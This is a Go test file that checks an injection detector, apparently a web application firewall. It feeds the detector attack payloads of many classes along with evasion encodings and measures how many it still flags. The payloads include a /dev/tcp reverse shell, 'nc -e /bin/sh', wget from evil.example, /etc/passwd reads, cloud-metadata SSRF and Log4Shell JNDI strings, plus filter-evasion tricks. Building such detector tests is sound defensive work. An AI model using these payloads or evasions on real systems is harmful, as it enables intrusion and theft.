package injection

import (
	"bufio"
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/url"
	"os"
	"slices"
	"strings"
	"testing"
)

// plainPayloads are found as they are; what the transformations make of them
// has to be found as well.
var plainPayloads = map[Class][]string{
	SQLi: {
		"1' or '1'='1", "1 or 1=1 -- ", "x' union select null,username,password from users -- ", "1; drop table users -- ", "1 and sleep(5)",
		"1' and extractvalue(1,concat(0x7e,version())) -- ", "-1 union all select 1,2,3", "1' order by 5 -- ", "1 and (select count(*) from information_schema.tables)>0", "admin' -- ",
		"1'; waitfor delay '0:0:5' -- ", "1 or exists(select 1 from users)",
	},
	XSS: {
		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "\" onmouseover=\"alert(1)", "<a href=\"javascript:alert(1)\">x</a>",
		"<iframe src=\"javascript:alert(1)\"></iframe>", "'><script src=//evil.example/x.js></script>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "javascript:alert(document.cookie)",
	},
	Command: {
		"; cat /etc/passwd", "| whoami", "$(cat /etc/passwd)", "`id`", "&& wget http://evil.example/x.sh", "127.0.0.1; ls -la /", "a || ping -c 3 192.0.2.1", "; bash -i >& /dev/tcp/192.0.2.1/443 0>&1", "| nc -e /bin/sh 192.0.2.1 443", "& ping -n 5 127.0.0.1 &",
	},
	Traversal:    {"../../../etc/passwd", "../../../../windows/win.ini", "..\\..\\..\\boot.ini", "/var/www/../../etc/shadow", "images/../../../app/config.yml", "../../secret.txt"},
	Inclusion:    {"/etc/passwd", "php://filter/convert.base64-encode/resource=index.php", "file:///etc/passwd", "expect://id", "/proc/self/environ", "phar://upload.jpg/x", "c:\\boot.ini"},
	SSRF:         {"http://169.254.169.254/latest/meta-data/", "http://localhost:8080/admin", "http://127.0.0.1/server-status", "gopher://127.0.0.1:6379/_info", "http://2130706433/", "http://0x7f000001/", "http://[::1]/", "dict://192.0.2.1:11211/stat"},
	Template:     {"{{7*7}}", "${7*7}", "<%= 7*7 %>", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "#{7*7}", "${T(java.lang.Runtime).getRuntime().exec('id')}", "{{request.application.__globals__}}"},
	SSI:          {"<!--#exec cmd=\"id\"-->", "<!--#include virtual=\"/etc/passwd\"-->", "<esi:include src=\"http://evil.example/x\"/>"},
	NoSQL:        {"{\"username\":{\"$ne\":null},\"password\":{\"$ne\":null}}", "'; return true; var x='a", "{\"$where\":\"sleep(5000)\"}", "' && this.password.match(/.*/)//", "', $where: '1 == 1'", "{\"password\":{\"$gt\":\"\"}}"},
	LDAP:         {"*)(uid=*))(|(uid=*", "admin)(objectClass=*)", "x)(&(cn=admin", "*)(|(mail=*"},
	XPath:        {"' or count(/child::node())=1 or 'a'='b", "'] | //user/*[contains(*,'", "x' or position()=1 or 'y'='"},
	XXE:          {"<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ELEMENT r ANY>]>", "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\"/></foo>"},
	Mail:         {"a@example.com\r\nRCPT TO:<b@example.com>", "x\r\nEHLO evil.example", "a\r\nMAIL FROM:<a@example.com>", "x\r\na001 EXAMINE INBOX"},
	CRLF:         {"/\r\nSet-Cookie: a=b", "x\r\nLocation: http://evil.example/", "a\nX-Forwarded-Host: evil.example", "x\r\n\r\nHTTP/1.1 200 OK"},
	Log4Shell:    {"${jndi:ldap://evil.example/a}", "${jndi:rmi://evil.example/a}", "${jndi:dns://evil.example/a}", "${${lower:j}ndi:${lower:l}dap://evil.example/a}"},
	PHP:          {"<?php system('id'); ?>", "phpinfo()", "base64_decode('aWQ=')", "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", "$_GET['cmd']($_GET['x'])", "eval($_POST['x'])", "call_user_func('system','id')"},
	Java:         {"class.module.classLoader.resources.context", "java.lang.Runtime.getRuntime().exec('id')", "#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS", "new java.lang.ProcessBuilder('id').start()"},
	Code:         {"require('child_process').exec('id')", "__import__('os').system('id')", "process.mainModule.require('fs')", "{\"__proto__\":{\"admin\":true}}", "subprocess.check_output('id')"},
	Shellshock:   {"() { :; }; echo x", "() { :;};/bin/bash -c id", "() { ignored; }; /bin/cat /etc/passwd"},
	OpenRedirect: {"//evil.example", "/\\\\evil.example", "https:evil.example", "///evil.example/%2f..", "https://api.example.com@evil.example/", "/redirect?next=//evil.example"},
	Probe:        {"')", "|", "'))", "';", "!(()&&!|*|*|"},
	GraphQL:      {"{__schema{types{name}}}", "query IntrospectionQuery{__schema{queryType{name}}}", "{__type(name:\"User\"){fields{name}}}"},
}

// before is what stands before the value: one parameter, and one of several.
var before = [2]string{"q=", "page=2&q="}

// tricks are what a server, a proxy, a template or a browser undoes again.
type trick struct {
	name string
	of   []Class // nil for all
	do   func(r *rand.Rand, s string) string
}

func percents(s string) string {
	var b strings.Builder
	for i := range len(s) {
		fmt.Fprintf(&b, "%%%02x", s[i])
	}
	return b.String()
}

// each replaces some of the bytes that pick chooses.
func each(r *rand.Rand, s string, pick func(byte) bool, put func(byte) string) string {
	var b strings.Builder
	for i := range len(s) {
		if c := s[i]; pick(c) && r.IntN(3) > 0 {
			b.WriteString(put(c))
		} else {
			b.WriteByte(c)
		}
	}
	return b.String()
}

func anyCase(r *rand.Rand, s string) string {
	return each(r, s, letter, func(c byte) string { return string(c ^ 0x20) })
}

var insensitive = []Class{SQLi, XSS, SSI, LDAP, XXE, Mail, CRLF, Log4Shell, PHP, SSRF}

var tricks = []trick{
	{"percent", nil, func(_ *rand.Rand, s string) string { return percents(s) }},
	{"percent twice", nil, func(_ *rand.Rand, s string) string { return url.QueryEscape(url.QueryEscape(s)) }},
	{"percent three times", nil, func(_ *rand.Rand, s string) string {
		return url.QueryEscape(url.QueryEscape(strings.ReplaceAll(url.QueryEscape(s), "+", "%20")))
	}},
	{"all percent twice", nil, func(_ *rand.Rand, s string) string { return strings.ReplaceAll(percents(s), "%", "%25") }},
	{"some percent", nil, func(r *rand.Rand, s string) string {
		return each(r, url.QueryEscape(s), func(c byte) bool { return letter(c) && false }, func(c byte) string { return string(c) })
	}},
	{"%u", nil, func(r *rand.Rand, s string) string {
		var b strings.Builder
		for i := range len(s) {
			if r.IntN(3) > 0 {
				fmt.Fprintf(&b, "%%u%04x", s[i])
			} else {
				b.WriteString(url.QueryEscape(s[i : i+1]))
			}
		}
		return b.String()
	}},
	{"case", insensitive, func(r *rand.Rand, s string) string { return url.QueryEscape(anyCase(r, s)) }},
	{"in JSON", []Class{SQLi, XSS, Command, Traversal, Inclusion, SSRF, Template, SSI, Log4Shell, PHP, Java, XXE}, func(_ *rand.Rand, s string) string {
		return url.QueryEscape(`{"a":1,"b":"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(s) + `"}`)
	}},
	{"JSON escapes", []Class{SQLi, XSS, Command, Traversal, Template, SSI, Log4Shell}, func(r *rand.Rand, s string) string {
		return url.QueryEscape(`{"a":"` + each(r, s, func(c byte) bool { return true }, func(c byte) string { return fmt.Sprintf(`\u%04x`, c) }) + `"}`)
	}},
	{"base64", []Class{SQLi, XSS, Command, Traversal, Template, SSI, Log4Shell, PHP, XXE}, func(_ *rand.Rand, s string) string {
		return url.QueryEscape(base64.StdEncoding.EncodeToString([]byte(s + "          "[:max(0, 12-len(s))])))
	}},
	{"base64 for addresses", []Class{SQLi, XSS, Command, Traversal, Template, SSI, Log4Shell, PHP, XXE, Java, Code, NoSQL}, func(_ *rand.Rand, s string) string {
		return base64.RawURLEncoding.EncodeToString([]byte(s + "          "[:max(0, 12-len(s))]))
	}},
	{"percent in base64", []Class{SQLi, XSS, Command, Template, Log4Shell, PHP, XXE}, func(_ *rand.Rand, s string) string {
		return base64.RawURLEncoding.EncodeToString([]byte(percents(s)))
	}},
	{"JSON in JSON", []Class{SQLi, XSS, Command, Traversal, Inclusion, Template, SSI, Log4Shell, PHP}, func(_ *rand.Rand, s string) string {
		escape := strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace
		return url.QueryEscape(`{"a":"` + escape(`{"b":"`+escape(s)+`"}`) + `"}`)
	}},
	{"base64 in JSON", []Class{SQLi, XSS, Command, Traversal, Template, Log4Shell, PHP}, func(_ *rand.Rand, s string) string {
		return url.QueryEscape(`{"a":1,"b":"` + base64.StdEncoding.EncodeToString([]byte(s+"          "[:max(0, 12-len(s))])) + `"}`)
	}},
	{"percent in JSON", []Class{SQLi, XSS, Command, Traversal, Template, Log4Shell, PHP}, func(_ *rand.Rand, s string) string {
		return url.QueryEscape(`{"a":1,"b":"` + percents(s) + `"}`)
	}},
	{"entities", []Class{XSS, XXE, SSI}, func(r *rand.Rand, s string) string {
		return url.QueryEscape(each(r, s, func(c byte) bool { return true }, func(c byte) string { return fmt.Sprintf("&#x%x;", c) }))
	}},
	{"\\x", []Class{XSS, Command, SQLi, Log4Shell}, func(r *rand.Rand, s string) string {
		return url.QueryEscape(each(r, s, letter, func(c byte) string { return fmt.Sprintf(`\x%02x`, c) }))
	}},
	{"full width", []Class{SQLi, XSS, Traversal, Template, SSRF}, func(r *rand.Rand, s string) string {
		return url.QueryEscape(each(r, s, func(c byte) bool { return c > ' ' && c < 0x7f }, func(c byte) string { return string(rune(c) - '!' + 0xFF01) }))
	}},
	{"overlong", []Class{Traversal}, func(_ *rand.Rand, s string) string {
		return strings.NewReplacer("/", "%c0%af", "\\", "%c1%9c").Replace(s)
	}},
	{"overlong dots", []Class{Traversal}, func(_ *rand.Rand, s string) string { return strings.ReplaceAll(s, ".", "%c0%ae") }},
	{"backslashes", []Class{Traversal}, func(_ *rand.Rand, s string) string { return url.QueryEscape(strings.ReplaceAll(s, "/", `\`)) }},
	{"dots that survive a filter", []Class{Traversal}, func(_ *rand.Rand, s string) string {
		return url.QueryEscape(strings.ReplaceAll(s, "../", "....//"))
	}},
	{"NUL at the end", []Class{Traversal, Inclusion}, func(_ *rand.Rand, s string) string { return url.QueryEscape(s) + "%00.png" }},
	{"comments for blanks", []Class{SQLi}, func(_ *rand.Rand, s string) string {
		return url.QueryEscape(strings.ReplaceAll(strings.TrimSpace(s), " ", "/**/"))
	}},
	{"comments with text", []Class{SQLi}, func(_ *rand.Rand, s string) string {
		return url.QueryEscape(strings.ReplaceAll(strings.TrimSpace(s), " ", "/*x y*/"))
	}},
	{"tabs and lines", []Class{SQLi, XSS}, func(r *rand.Rand, s string) string {
		return url.QueryEscape(each(r, s, func(c byte) bool { return c == ' ' }, func(byte) string { return []string{"\t", "\n", "\r\n", "\f"}[r.IntN(4)] }))
	}},
	{"many blanks", []Class{SQLi, XSS, Command, Template}, func(_ *rand.Rand, s string) string { return url.QueryEscape(strings.ReplaceAll(s, " ", "     ")) }},
	{"slashes for blanks", []Class{XSS}, func(_ *rand.Rand, s string) string {
		return url.QueryEscape(strings.Replace(s, " ", "/", 1))
	}},
	{"broken scheme", []Class{XSS}, func(_ *rand.Rand, s string) string {
		return url.QueryEscape(strings.ReplaceAll(s, "javascript:", "java\tscript:"))
	}},
	{"IFS", []Class{Command}, func(_ *rand.Rand, s string) string {
		return url.QueryEscape(s[:2] + strings.ReplaceAll(s[2:], " ", "${IFS}"))
	}},
	{"quotes in words", []Class{Command}, func(_ *rand.Rand, s string) string {
		return url.QueryEscape(strings.NewReplacer("cat", "c'a't", "whoami", "who\"\"ami", "wget", "w\\get", "passwd", "pass\\wd", "ping", "pi''ng", "bash", "ba\\sh", "ls", "l\\s").Replace(s))
	}},
	{"nested lookups", []Class{Log4Shell}, func(r *rand.Rand, s string) string {
		return url.QueryEscape(strings.NewReplacer("jndi", []string{"${::-j}ndi", "${lower:j}${upper:n}di", "j${env:X:-n}di", "${date:'j'}ndi"}[r.IntN(4)]).Replace(s))
	}},
	{"blanks in marks", []Class{Template}, func(_ *rand.Rand, s string) string {
		return url.QueryEscape(strings.NewReplacer("{{", "{{   ", "}}", "   }}", "7*7", "7  *  7").Replace(s))
	}},
	{"comment before the bracket", []Class{PHP}, func(_ *rand.Rand, s string) string { return url.QueryEscape(strings.ReplaceAll(s, "(", "/*x*/(")) }},
	{"padding", nil, func(_ *rand.Rand, s string) string { return strings.Repeat("a%20", 2000) + url.QueryEscape(" "+s) }},
}

// TestEvasion: of payloads that are found plain, at least 95 of a hundred stay
// found, as the same class, when they are disguised in ways that a server undoes.
func TestEvasion(t *testing.T) {
	a := New()
	r := rand.New(rand.NewPCG(1, 2))
	for c := range Classes {
		list := plainPayloads[c]
		if len(list) == 0 && c != Fixation && c != Encoding {
			t.Errorf("%s: has no payloads", c) // those two are made of what disguises others, or of where a link stands
		}
		n, found := 0, 0
		var missed []string
		for _, p := range list {
			if set := a.Analyze(&Request{Path: "/api", Query: "q=" + url.QueryEscape(p)}); !set.Has(c) {
				t.Errorf("%s: %q is found plain as %v", c, p, set.Append(nil))
				continue
			}
			for _, x := range tricks {
				if x.of != nil && !contains(x.of, c) {
					continue
				}
				if x.name == "padding" && (c == SSRF || c == Inclusion || c == Traversal || c == Java || c == NoSQL || c == OpenRedirect || c == Probe) {
					continue // these are something only at the start of a value
				}
				for range 3 {
					n++
					q := before[r.IntN(2)] + x.do(r, p)
					if set := a.Analyze(&Request{Path: "/api", Query: q}); set.Has(c) {
						found++
					} else {
						missed = append(missed, fmt.Sprintf("%s: %s, as %v", x.name, p, set.Append(nil)))
					}
				}
			}
		}
		if n == 0 {
			continue
		}
		if len(missed) > 0 {
			t.Logf("%s: missed are %q", c, slices.Compact(missed))
		}
		t.Logf("%-10s %5d disguised, %5.1f %% found", c, n, 100*float64(found)/float64(n))
		if found*100 < n*95 {
			t.Errorf("%s: %d of %d stay found; missed are %q", c, found, n, slices.Compact(missed))
		}
	}
}

// TestEvasionCorpus does the same with labelled payloads that others wrote: up to
// 200 of each class that are found plain as that class.
func TestEvasionCorpus(t *testing.T) {
	if testing.Short() {
		t.Skip("takes seconds")
	}
	f, err := os.Open(corpus())
	if err != nil {
		t.Skip("the labelled requests are not here: ", err)
	}
	defer func() { _ = f.Close() }()
	z, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	a := New()
	payloads := map[Class][]string{}
	sc := bufio.NewScanner(z)
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		var r struct{ Class, Label, URI, Quality string }
		if err := json.Unmarshal(sc.Bytes(), &r); err != nil {
			t.Fatal(err)
		}
		c, ok := Lookup(r.Class)
		switch r.Class {
		case "open-redirect":
			c, ok = OpenRedirect, true
		case "rfi":
			c, ok = Inclusion, true
		}
		_, value, found := strings.Cut(r.URI, "?q=")
		if r.Label != "attack" || r.Quality != "" || !ok || !found || strings.Contains(value, "&") {
			continue
		}
		p, err := url.QueryUnescape(value)
		// What is encoded already is disguised already; what is long is several payloads.
		if err != nil || len(p) > 120 || strings.ContainsAny(p, "%\\\x00") || strings.IndexFunc(p, func(r rune) bool { return r > '~' }) >= 0 {
			continue
		}
		if a.Analyze(&Request{Path: "/api", Query: "q=" + url.QueryEscape(p)}).Has(c) {
			payloads[c] = append(payloads[c], p)
		}
	}
	if len(payloads) < 12 {
		t.Fatalf("payloads of %d classes", len(payloads))
	}
	r := rand.New(rand.NewPCG(3, 4))
	for c := range Classes {
		list := payloads[c]
		if len(list) == 0 {
			continue
		}
		r.Shuffle(len(list), func(i, j int) { list[i], list[j] = list[j], list[i] })
		n, lost := 0, map[string][]string{}
		for _, p := range list[:min(len(list), 200)] {
			for _, x := range tricks {
				if x.of != nil && !contains(x.of, c) || x.name == "padding" || x.name == "IFS" && len(p) < 2 {
					continue
				}
				n++
				if !a.Analyze(&Request{Path: "/api", Query: before[r.IntN(2)] + x.do(r, p)}).Has(c) {
					lost[x.name] = append(lost[x.name], p)
				}
			}
		}
		missed := 0
		for name, list := range lost {
			missed += len(list)
			t.Logf("%s: %s: %d missed, as %q", c, name, len(list), list[:min(len(list), 6)])
		}
		t.Logf("%-14s %4d payloads, %6d disguised, %5.1f %% found", c, min(len(list), 200), n, 100*float64(n-missed)/float64(n))
		if missed*20 > n {
			t.Errorf("%s: %d of %d are lost", c, missed, n)
		}
	}
}

func contains(list []Class, c Class) bool {
	return slices.Contains(list, c)
}
